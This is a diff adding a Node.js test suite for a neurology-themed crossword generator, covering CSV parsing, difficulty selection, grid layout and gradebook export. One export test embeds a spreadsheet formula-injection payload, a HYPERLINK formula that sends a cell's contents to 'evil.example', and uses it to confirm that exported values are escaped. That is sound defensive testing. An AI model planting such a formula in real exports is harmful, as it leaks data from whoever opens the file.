@@ -0,0 +1,281 @@
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const path = require('path');
+const engine = require('../engine.js');
+
+const { DIRS } = engine;
+const BANK = engine.parseCSVTwoCols(fs.readFileSync(path.join(__dirname, '..', 'crosswordclues.csv'), 'utf8'));
+
+// Same steps as the App: pick words for the seed, size the grid, generate
+function build(seed, level, topics){
+  const preset = engine.presetFor(level);
+  const words = engine.pickDailyWords(BANK, engine.mulberry32(seed), preset, topics);
+  const size = engine.computeGridSize(words, preset);
+  return { words, size, layout: engine.generateCrossword(words, seed, size, { density: preset.density }) };
+}
+function gridFrom(rows){ return rows.map(row=>row.split('').map(ch=>ch==='#' ? null : ch)); }
+function cellsOf(p){
+  const out = [];
+  for (let i=0;i<p.answer.length;i++) out.push(p.dir===DIRS.ACROSS ? [p.row, p.col+i] : [p.row+i, p.col]);
+  return out;
+}
+
+test('mulberry32 is a fixed sequence per seed', ()=>{
+  const a = engine.mulberry32(42), b = engine.mulberry32(42);
+  const seqA = [a(), a(), a()], seqB = [b(), b(), b()];
+  assert.deepEqual(seqA, seqB);
+  assert.equal(seqA[0], 0.35854490497149527);
+  assert.notEqual(engine.mulberry32(43)(), seqA[0]);
+  for (const x of seqA) assert.ok(x>=0 && x<1);
+});
+
+test('dailySeed hashes the date like the site', ()=>{
+  assert.equal(engine.dailySeed('2026-10-19'), engine.hashStringToInt('phoenix2026-10-19'));
+  assert.notEqual(engine.dailySeed('2026-10-19'), engine.dailySeed('2026-10-20'));
+});
+
+test('parseCSVTwoCols reads quotes, topic tags and skips a header row', ()=>{
+  const rows = engine.parseCSVTwoCols('Answer,Clue,Topic\n"Bell palsy","Facial weakness, ""LMN"" type",cranial nerves;Stroke\nab,too short\n');
+  assert.equal(rows.length, 1);
+  assert.deepEqual(rows[0], { answer:'BELLPALSY', display:'Bell palsy', clue:'Facial weakness, "LMN" type', tags:['cranial nerves', 'stroke'] });
+  assert.equal(engine.parseCSVTwoCols('ab,too short', true).length, 1);
+});
+
+test('multi-word answers keep their written form and enumerate', ()=>{
+  const rows = engine.parseCSVTwoCols("Bell's palsy,Idiopathic CN VII palsy\nGABA-B,Baclofen target\nGuillain-Barré,Ascending weakness\nataxia,Incoordination\n");
+  assert.deepEqual(rows.map(r=>[r.answer, r.display]), [
+    ['BELLSPALSY', "Bell's palsy"], ['GABAB', 'GABA-B'], ['GUILLAINBARRE', 'Guillain-Barré'], ['ATAXIA', undefined]
+  ]);
+  assert.deepEqual(rows.map(r=>engine.enumeration(r.display)), ['(5,5)', '(4-1)', '(8-5)', '']);
+  assert.deepEqual(engine.answerBreaks("Bell's palsy"), [5]);
+  assert.deepEqual(engine.answerBreaks('Dix - Hallpike / Epley'), [3, 11]);
+  assert.equal(engine.enumeration('Dix - Hallpike / Epley'), '(3-8,5)');
+  assert.deepEqual(engine.parseCSVTwoCols(engine.bankToCSV(rows)), rows);
+  const layout = engine.generateCrossword(rows.slice(0, 2).concat([{ answer:'BASAL', clue:'Ganglia' }]), 3, 12);
+  const json = engine.puzzleToJSON(layout, {});
+  assert.ok(json.across.concat(json.down).some(e=>e.display==="Bell's palsy"));
+});
+
+test('parseClueNotes keys notes by grid answer and drops remote images', ()=>{
+  const notes = engine.parseClueNotes(JSON.stringify({
+    "Bell's palsy": { explanation: ' LMN facial weakness ', reference: 'Ref A', image: 'img/bell.jpg', alt: '' },
+    ataxia: 'Cerebellar or sensory',
+    PTOSIS: { image: 'https://example.com/x.png' },
+    '': { explanation: 'no key' }
+  }));
+  assert.deepEqual(notes, {
+    BELLSPALSY: { explanation: 'LMN facial weakness', reference: 'Ref A', image: 'img/bell.jpg' },
+    ATAXIA: { explanation: 'Cerebellar or sensory' }
+  });
+  assert.throws(()=>engine.parseClueNotes('{nope'), /not valid JSON/);
+  assert.throws(()=>engine.parseClueNotes('[1]'), /keyed by answer/);
+  const shipped = engine.parseClueNotes(fs.readFileSync(path.join(__dirname, '..', 'crosswordclues.notes.json'), 'utf8'));
+  for (const k of Object.keys(shipped)) assert.ok(BANK.some(x=>x.answer===k), k + ' is not in the bank');
+});
+
+test('parseDeckText detects tab-separated text', ()=>{
+  const rows = engine.parseDeckText('ATAXIA\tLoss of coordination, often cerebellar\tcerebellum\n');
+  assert.deepEqual(rows, [{ answer:'ATAXIA', clue:'Loss of coordination, often cerebellar', tags:['cerebellum'] }]);
+});
+
+test('bankToCSV round-trips through parseCSVTwoCols', ()=>{
+  const entries = [{ answer:'CHOREA', clue:'Dance-like, "flowing" movements', tags:['movement'] }, { answer:'APHASIA', clue:' Language loss', tags:[] }];
+  assert.deepEqual(engine.parseCSVTwoCols(engine.bankToCSV(entries)), [entries[0], { answer:'APHASIA', clue:'Language loss', tags:[] }]);
+});
+
+test('gradebookCSV keeps every field of a crafted result code from running as a formula', ()=>{
+  const evil = '=HYPERLINK("https://evil.example/?"&A1,"x")';
+  const result = { a:'asg1', n:'@SUM(1)', c:1, ms:83000, w:'+1', r:'-2', e:'\t=1', s:'\r=2', m:evil, x:[evil, 'PTOSIS'], u:['=1'], ts:Date.UTC(2026, 9, 19) };
+  const csv = engine.gradebookCSV([{ result, check:'valid' }, { result:{ a:'asg1', n:'Ada', w:12, r:0, s:-3, x:'=1', ts:'soon' }, check:'invalid' }], { asg1:{ title:'Week 3' } });
+  const rows = csv.trim().split('\n').slice(1).map(line=>line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g).map(f=>f.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"')));
+  rows[0].concat(rows[1]).forEach(f=>assert.ok(!/^[=+\-@\t\r]/.test(f), f));
+  assert.equal(rows[0][0], "'@SUM(1)");
+  assert.equal(rows[0][1], 'Week 3');
+  assert.equal(rows[0][12], "'" + evil + '; PTOSIS');
+  assert.equal(rows[0][14], 'ok');
+  // plain values pass as they are; a negative score is not one a real code carries
+  assert.deepEqual([rows[1][0], rows[1][2], rows[1][7], rows[1][10], rows[1][12]], ['Ada', '', '12', "'-3", '']);
+  assert.equal(engine.spreadsheetSafe('ATAXIA'), 'ATAXIA');
+});
+
+test('pickDailyWords respects the preset and topics', ()=>{
+  const preset = engine.presetFor(3);
+  const words = engine.pickDailyWords(BANK, engine.mulberry32(7), preset);
+  assert.equal(words.length, preset.maxClues);
+  assert.equal(new Set(words.map(w=>w.answer)).size, words.length);
+  for (const w of words) assert.ok(w.answer.length>=3 && w.answer.length<=preset.maxLen);
+
+  const tagged = [
+    { answer:'MIGRAINE', clue:'a', tags:['headache'] },
+    { answer:'CLUSTER', clue:'b', tags:['headache'] },
+    { answer:'ATAXIA', clue:'c', tags:['cerebellum'] }
+  ];
+  const picked = engine.pickDailyWords(tagged, engine.mulberry32(1), preset, ['headache']);
+  assert.deepEqual(picked.map(w=>w.answer).sort(), ['CLUSTER', 'MIGRAINE']);
+});
+
+test('a 1-5 column is a difficulty rating and survives bankToCSV', ()=>{
+  const rows = engine.parseCSVTwoCols('ATAXIA,Loss of coordination,cerebellum,2\nCHOREA,Dance-like movements,4.5\nAPHASIA,Language loss,stroke\n');
+  assert.deepEqual(rows[0], { answer:'ATAXIA', clue:'Loss of coordination', tags:['cerebellum'], difficulty:2 });
+  assert.deepEqual(rows[1], { answer:'CHOREA', clue:'Dance-like movements', tags:[], difficulty:4.5 });
+  assert.equal('difficulty' in rows[2], false);
+  assert.deepEqual(engine.parseCSVTwoCols(engine.bankToCSV(rows)), rows);
+});
+
+test('clueDifficulty starts from the rating and learns from solves', ()=>{
+  const entry = { answer:'ATAXIA', clue:'c', tags:[], difficulty:2 };
+  assert.equal(engine.clueDifficulty(entry, null), 2);
+  assert.ok(engine.baseDifficulty({ answer:'CAT' }) < engine.baseDifficulty({ answer:'HEMIBALLISMUS' }));
+  let stat = null;
+  for (let i=0;i<6;i++) stat = engine.recordClueSolve(stat, { helped:true, wrong:3, letters:6, ms:60000 });
+  assert.deepEqual(stat, { seen:6, helped:6, wrong:18, letters:36, ms:360000 });
+  assert.equal(engine.clueTrouble(stat), 1);
+  assert.ok(engine.clueDifficulty(entry, stat) >= 4);
+  const easy = engine.recordClueSolve(null, { helped:false, wrong:0, letters:6, ms:3000 });
+  assert.equal(engine.clueTrouble(easy), 0);
+  assert.ok(engine.clueDifficulty(entry, easy) < 2);
+});
+
+test('pickDailyWords prefers clues near the difficulty target', ()=>{
+  const bank = [];
+  for (let i=0;i<30;i++) bank.push({ answer:'WORD' + String.fromCharCode(65+i%26) + 'X'.repeat(i%3), clue:'c', tags:[i%2 ? 'stroke' : 'epilepsy'], difficulty: 1 + i%5 });
+  const preset = Object.assign(engine.presetFor(5), { maxClues: 6 });
+  const rate = engine.baseDifficulty;
+  const hard = engine.pickDailyWords(bank, engine.mulberry32(3), preset, null, { target: 5, rate });
+  assert.ok(hard.every(w=>w.difficulty>=4));
+  const easy = engine.pickDailyWords(bank, engine.mulberry32(3), preset, null, { target: 1, rate });
+  assert.ok(easy.every(w=>w.difficulty<=2));
+  // same seed, same pick; favored entries move up a band
+  assert.deepEqual(engine.pickDailyWords(bank, engine.mulberry32(3), preset, null, { target: 5, rate }), hard);
+  const favored = engine.pickDailyWords(bank, engine.mulberry32(3), Object.assign({}, preset, { maxClues: 9 }), null, { target: 1, rate, favor: x=>x.tags[0]==='stroke' });
+  assert.deepEqual(favored.filter(w=>w.difficulty>1).map(w=>w.difficulty + w.tags[0]), ['2stroke', '2stroke', '2stroke']);
+  // no difficulty: the old pick, untouched
+  assert.deepEqual(engine.pickDailyWords(BANK, engine.mulberry32(9), preset, null, null), engine.pickDailyWords(BANK, engine.mulberry32(9), preset));
+});
+
+test('adaptiveTarget climbs on clean solves and weakTopics finds trouble', ()=>{
+  assert.equal(engine.adaptiveTarget([]), engine.DIFFICULTY_TARGETS.medium);
+  const good = Array.from({ length: 10 }, ()=>({ rating: 3, perf: 1 }));
+  const bad = Array.from({ length: 10 }, ()=>({ rating: 3, perf: 0.3 }));
+  assert.ok(engine.adaptiveTarget(good) > 3.5);
+  assert.ok(engine.adaptiveTarget(bad) < 2);
+  assert.ok(engine.adaptiveTarget(good) <= 5 && engine.adaptiveTarget(bad) >= 1);
+
+  const bank = [];
+  const stats = {};
+  for (let i=0;i<8;i++){
+    const tag = i<4 ? 'stroke' : 'epilepsy';
+    const x = { answer:'WORD' + String.fromCharCode(65+i), clue:'c', tags:[tag] };
+    bank.push(x);
+    stats[x.answer] = engine.recordClueSolve(null, { helped: tag==='stroke', wrong:0, letters:5, ms:5000 });
+  }
+  assert.deepEqual(engine.weakTopics(bank, x=>stats[x.answer]), ['stroke']);
+  assert.deepEqual(engine.weakTopics(bank, ()=>null), []);
+});
+
+test('presetFor and computeGridSize stay within bounds', ()=>{
+  for (let level=0; level<=14; level++){
+    const p = engine.presetFor(level);
+    assert.ok(p.base>=13 && p.base<=engine.MAX_GRID);
+    assert.ok(p.density>0 && p.density<1);
+  }
+  assert.deepEqual(engine.presetFor('small'), engine.SIZE_PRESETS.small);
+  assert.equal(engine.computeGridSize([{ answer:'A'.repeat(40) }], engine.presetFor(0)), engine.MAX_GRID);
+  assert.equal(engine.computeGridSize([{ answer:'ABCDEFGHIJKLMNOP' }], engine.presetFor(0)), 18);
+});
+
+test('numberGrid numbers run starts in reading order', ()=>{
+  const grid = gridFrom([
+    'CAT#',
+    'A##D',
+    'BOLO',
+    '####'
+  ]);
+  // C starts across and down, D starts down, B starts across; lone letters get no number
+  assert.deepEqual(engine.numberGrid(grid), [
+    [1, null, null, null],
+    [null, null, null, 2],
+    [3, null, null, null],
+    [null, null, null, null]
+  ]);
+});
+
+test('finalizeLayout stamps numbers and bounds', ()=>{
+  const grid = engine.makeEmptyGrid(7);
+  const placements = [
+    { answer:'CAT', clue:'', row:2, col:1, dir:DIRS.ACROSS },
+    { answer:'CAB', clue:'', row:2, col:1, dir:DIRS.DOWN },
+    { answer:'TOE', clue:'', row:2, col:3, dir:DIRS.DOWN }
+  ];
+  for (const p of placements) engine.placeWord(p.answer, p.row, p.col, p.dir, grid);
+  const layout = engine.finalizeLayout(grid, placements);
+  assert.deepEqual(placements.map(p=>p.number), [1, 1, 2]);
+  assert.deepEqual(layout.bounds, { minR:2, maxR:4, minC:1, maxC:3 });
+  assert.deepEqual(engine.checkLayout(layout), []);
+});
+
+test('canPlace rejects touching words and letter clashes', ()=>{
+  const grid = engine.makeEmptyGrid(9);
+  engine.placeWord('NERVE', 4, 2, DIRS.ACROSS, grid);
+  assert.ok(!engine.canPlace('AXON', 1, 5, DIRS.DOWN, grid), 'N would land on V');
+  assert.ok(engine.canPlace('ARM', 3, 4, DIRS.DOWN, grid), 'crosses at R');
+  assert.ok(!engine.canPlace('DOG', 3, 2, DIRS.ACROSS, grid), 'runs alongside NERVE');
+  assert.ok(!engine.canPlace('SEA', 4, 7, DIRS.ACROSS, grid), 'extends NERVE');
+  assert.ok(!engine.canPlace('LONGWORD', 0, 3, DIRS.ACROSS, grid), 'off the grid');
+});
+
+test('checkLayout catches runs that are not entries', ()=>{
+  const grid = gridFrom(['CATS', '####', '####', '####']);
+  const layout = engine.finalizeLayout(grid, [{ answer:'CAT', clue:'', row:0, col:0, dir:DIRS.ACROSS }]);
+  assert.ok(engine.checkLayout(layout).length > 0);
+});
+
+test('generateCrossword is deterministic for a seed', ()=>{
+  for (const [seed, level] of [[42, 5], [7, 0], [2026, 14]]){
+    const a = build(seed, level).layout, b = build(seed, level).layout;
+    assert.deepEqual(a.placements, b.placements);
+    assert.deepEqual(a.grid, b.grid);
+  }
+  const a = build(1, 7).layout, b = build(2, 7).layout;
+  assert.notDeepEqual(a.grid, b.grid);
+});
+
+test('generated layouts are valid, connected and place every word', ()=>{
+  for (const level of [0, 3, 7, 11, 14]){
+    for (let seed=1; seed<=6; seed++){
+      const { words, size, layout } = build(seed*977, level);
+      const where = 'seed ' + seed*977 + ' level ' + level;
+      assert.deepEqual(engine.checkLayout(layout), [], where);
+      assert.equal(layout.placements.length, words.length, where + ': every word placed');
+      assert.deepEqual(layout.placements.map(p=>p.answer).sort(), words.map(w=>w.answer).sort(), where);
+      for (const p of layout.placements){
+        assert.ok(Number.isInteger(p.number) && p.number>0, where);
+        for (const [r, c] of cellsOf(p)) assert.ok(r>=0 && c>=0 && r<size && c<size, where);
+      }
+      // every entry reaches every other through shared cells
+      const owners = {};
+      layout.placements.forEach((p, i)=>cellsOf(p).forEach(([r, c])=>{ (owners[r+','+c] = owners[r+','+c] || []).push(i); }));
+      const seen = new Set([0]), queue = [0];
+      while (queue.length){
+        const i = queue.shift();
+        for (const [r, c] of cellsOf(layout.placements[i])){
+          for (const j of owners[r+','+c]) if (!seen.has(j)){ seen.add(j); queue.push(j); }
+        }
+      }
+      assert.equal(seen.size, layout.placements.length, where + ': connected');
+    }
+  }
+});
+
+test('generateCrossword leaves out words that cannot cross anything', ()=>{
+  const words = [{ answer:'ATAXIA', clue:'' }, { answer:'APRAXIA', clue:'' }, { answer:'ZOOM', clue:'' }];
+  const layout = engine.generateCrossword(words, 3, 13);
+  assert.deepEqual(layout.placements.map(p=>p.answer).sort(), ['APRAXIA', 'ATAXIA']);
+  assert.deepEqual(engine.checkLayout(layout), []);
+});
+
+test('symmetryMismatches counts unmatched cell pairs once', ()=>{
+  assert.equal(engine.symmetryMismatches(gridFrom(['A##', '###', '##A'])), 0);
+  assert.equal(engine.symmetryMismatches(gridFrom(['A##', '###', '###'])), 1);
+});